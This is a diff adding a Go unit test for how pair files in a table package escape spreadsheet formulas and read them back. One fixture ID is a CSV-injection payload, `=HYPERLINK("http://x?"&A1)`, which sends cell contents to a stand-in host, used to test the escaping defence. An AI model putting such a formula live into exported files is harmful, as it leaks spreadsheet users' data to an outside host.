@@ -2,6 +2,7 @@ package table
 
 import (
 	"bytes"
+	"errors"
 	"os"
 	"path/filepath"
 	"strings"
@@ -50,5 +51,43 @@ func TestFormulas(t *testing.T) {
 	var same bytes.Buffer
 	if err := WriteCSV(&same, f); err != nil || !strings.Contains(same.String(), "\n-5,+4.5e-3,") {
 		t.Errorf("%v %s", err, same.String())
+	}
+}
+
+// TestFormulasInPairs: pairs of such items are written escaped, and read back as they were by the same option.
+func TestFormulasInPairs(t *testing.T) {
+	f := &data.Frame{X: make([]float32, 5), Columns: []string{"b"}, Blocks: []data.Block{{Name: "features", End: 1}},
+		IDs: []string{`=HYPERLINK("http://x?"&A1)`, "-5", "'=x", "=x", "@y"}}
+	pairs := Pairs{Left: []int32{0, 1, 3}, Right: []int32{1, 2, 4}, Label: []float32{1, 0, 0.25}}
+	for _, ending := range []string{".csv", ".tsv", ".parquet"} {
+		path := filepath.Join(t.TempDir(), "pairs"+ending)
+		if err := SavePairs(path, EscapeFormulas(f), pairs); err != nil {
+			t.Fatal(err)
+		}
+		if ending == ".csv" {
+			want := "left,right,label\n\"'=HYPERLINK(\"\"http://x?\"\"&A1)\",\"-5\",1\n\"-5\",\"''=x\",0\n" +
+				"\"'=x\",\"'@y\",0.25\n"
+			if text, err := os.ReadFile(path); err != nil || string(text) != want {
+				t.Errorf("%v:\n%swant\n%s", err, text, want)
+			}
+		}
+		got, _, err := OpenPairs(t.Context(), path, f, PairOptions{EscapedFormulas: true})
+		if diff := cmp.Diff(pairs, got); err != nil || diff != "" {
+			t.Errorf("%s: %v %s", ending, err, diff)
+		}
+		var unknown *Error
+		if _, _, err := OpenPairs(t.Context(), path, f, PairOptions{}); !errors.As(err, &unknown) || unknown.Row != 1 {
+			t.Errorf("%s without the option: %v", ending, err)
+		}
+	}
+	// What is not escaped is read too.
+	path := filepath.Join(t.TempDir(), "pairs.txt")
+	if err := os.WriteFile(path, []byte("1 =x -5\n0 '=x @y\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	got, _, err := OpenPairs(t.Context(), path, f, PairOptions{EscapedFormulas: true})
+	if diff := cmp.Diff(Pairs{Left: []int32{3, 3}, Right: []int32{1, 4}, Label: []float32{1, 0}}, got); err != nil ||
+		diff != "" {
+		t.Errorf("%v %s", err, diff)
 	}
 }
